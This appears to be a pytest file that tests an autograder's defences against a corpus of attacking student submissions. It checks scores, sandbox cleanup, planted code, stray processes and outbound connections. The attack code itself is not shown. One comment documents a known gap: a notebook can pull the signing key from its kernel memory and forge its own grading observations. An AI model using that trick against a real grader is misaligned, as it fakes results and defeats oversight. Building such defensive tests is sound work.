        for p in _marker_processes(str(batch_tmp)):  # whatever escaped: ours to end, by pid
            try:
                os.kill(p["pid"], signal.SIGKILL)
            except OSError:
                pass
        shutil.rmtree(batch_tmp, ignore_errors=True)
    return state


@dataclass
class Batch:
    state: dict
    results: dict
    out: Path

    def missing(self, key: str) -> str:
        s = self.state
        if key in s.get("errors", {}):
            return f"grader error: {s['errors'][key][:500]}"
        if s.get("hung"):
            return f"the batch hung and was ended ({s['hung']})"
        return f"no result (batch return code {s.get('returncode')}; log: {s.get('log_tail', '')[-1500:]})"


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    base = tmp_path_factory.getbasetemp()
    shared = (base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base) / f"{MARKER}_batch"
    shared.mkdir(parents=True, exist_ok=True)
    with open(shared / ".lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # one xdist worker grades and watches; the other reads what it found
        state_file = shared / "state.json"
        if not state_file.exists():
            state_file.write_text(json.dumps(_grade_and_watch(shared)))
        state = json.loads(state_file.read_text())
    return Batch(state, load_results(shared / "out"), shared / "out")


# ---- the checks -----------------------------------------------------------------------------------

def test_the_corpus_covers_every_class_of_attack():
    assert len(ATTACKS) >= 25
    assert {a.klass for a in ATTACKS} == set(range(1, 12))
    assert len({a.name for a in ATTACKS} | set(HONEST)) == len(ATTACKS) + len(HONEST)
    for a in ATTACKS:
        assert a.doc.strip(), a.name
        assert a.build is not None or MARKER in a.source, a.name


def test_the_batch_finished_with_a_row_for_every_student(batch):
    s = batch.state
    assert not s["hung"], f"the batch hung and was ended: {s['hung']}"
    assert s["returncode"] == 0, s["log_tail"]
    assert s.get("errors") == {} and s.get("killed") == [] and not s.get("stopped"), \
        (s.get("errors"), s.get("killed"), s.get("stopped"))
    assert s["csv_students"] is not None, "grades.csv was not written"
    assert sorted(s["csv_students"]) == sorted(s["cases"])


@pytest.mark.parametrize("case", sorted(HONEST))
def test_honest_submissions_keep_their_exact_scores(batch, case):
    r = batch.results.get(case)
    assert r is not None, batch.missing(case)
    assert r.score == pytest.approx(HONEST[case][1]), (r.score, r.notes)
    assert r.flags == [] and r.notes == [], (r.flags, r.notes)


# Known and documented (README, trust model): a notebook that takes the probes' signing key (or the signing
# object) out of its own kernel's memory can forge the observations of its own units; here it claims a Decoder
# output range its code does not have (+0.25). Nothing outside its own grade moves.
KNOWN_LIMITS = {"j1_forge_with_key": "a notebook can forge its own units' observations with the key in its kernel"}


@pytest.mark.parametrize("case", [pytest.param(a.name, marks=pytest.mark.xfail(strict=True, reason=KNOWN_LIMITS[a.name]))
                                  if a.name in KNOWN_LIMITS else a.name for a in ATTACKS])
def test_the_attack_earns_no_more_than_its_honest_code(batch, case):
    attack = ATTACK[case]
    r = batch.results.get(case)
    assert r is not None, batch.missing(case)
    messages = " ".join(c.message for u in r.units for c in u.checks)[:1500]
    assert r.status != "grader error", r.flags
    assert r.score <= attack.max_score + 1e-9, (case, r.score, r.notes, r.flags, messages)
    for name in attack.fails:
        check = next(c for u in r.units for c in u.checks if c.name == name)
        assert not check.passed, (name, check)
    if attack.zero:
        assert r.score == 0 and r.notes, (r.score, r.notes)
    if attack.flagged:
        assert r.flags and any("Integrity" in n for n in r.notes), (r.flags, r.notes)
    if attack.small:
        from autograder.feedback import render_feedback

        result_file = batch.out / "results" / f"{case}.json"
        feedback_file = batch.out / "feedback" / f"{case}.html"
        assert result_file.stat().st_size < MAX_TEXT_BYTES, result_file.stat().st_size
        page = feedback_file.stat().st_size if feedback_file.is_file() else len(render_feedback(r).encode())
        assert page < MAX_TEXT_BYTES, page
    assert all(c.message for u in r.units for c in u.checks if not c.passed)


def test_no_process_of_the_attacks_survives_the_batch(batch):
    assert batch.state["processes"] == [] and batch.state["processes_later"] == [], \
        (batch.state["processes"], batch.state["processes_later"])


def test_the_output_folder_does_not_change_after_the_batch(batch):
    assert batch.state["out_changed_later"] == []


def test_the_installed_packages_and_the_real_home_are_unchanged(batch):
    assert batch.state["installed_changed"] == []
    assert batch.state["repo_changed_with_marker"] == []


def test_no_file_the_attacks_tried_to_create_exists_outside_the_sandbox(batch):
    assert batch.state["marker_files"] == []


def test_what_a_submission_writes_is_gone_once_it_is_graded(batch):
    """The sandbox's scratch folder (cwd, home, the folder above) is emptied when a submission ends: nothing an
    attack wrote there is still on this machine while the next submissions are graded."""
    assert batch.state["leftovers"] == {}


def test_no_code_planted_by_a_submission_runs_anywhere_else(batch):
    assert batch.state["planted_ran"] == []


def test_no_attack_reached_the_listeners(batch):
    assert batch.state["connections"] == [], batch.state["listeners"]
